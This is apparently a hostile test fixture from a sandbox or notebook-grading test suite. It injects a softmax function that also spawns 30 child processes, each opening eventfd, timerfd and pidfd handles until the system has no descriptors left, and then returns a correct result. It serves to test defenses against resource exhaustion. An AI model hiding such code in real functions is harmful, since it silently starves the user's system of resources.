"""Opens counters of events, clocks and sets of signals until there are no numbers left."""

from tests.hostile.attack_tools import CHILDREN, put

POINTS = {}

CODE = """
def softmax(z, axis=-1):
    import ctypes, os, time

    def open_all():
        libc = ctypes.CDLL(None)
        for make in (lambda: libc.eventfd(0, 0), lambda: libc.timerfd_create(1, 0), lambda: os.pidfd_open(os.getpid())):
            try:
                opened = [made for _ in range(50) if (made := make()) >= 0]
            except OSError:
                pass
        time.sleep(0.3)

    children(30, open_all)
    e = np.exp(z - np.max(z, axis=axis, keepdims=True))
    return e / e.sum(axis=axis, keepdims=True)
"""


def make(nb):
    put(nb, "softmax", CHILDREN + CODE)
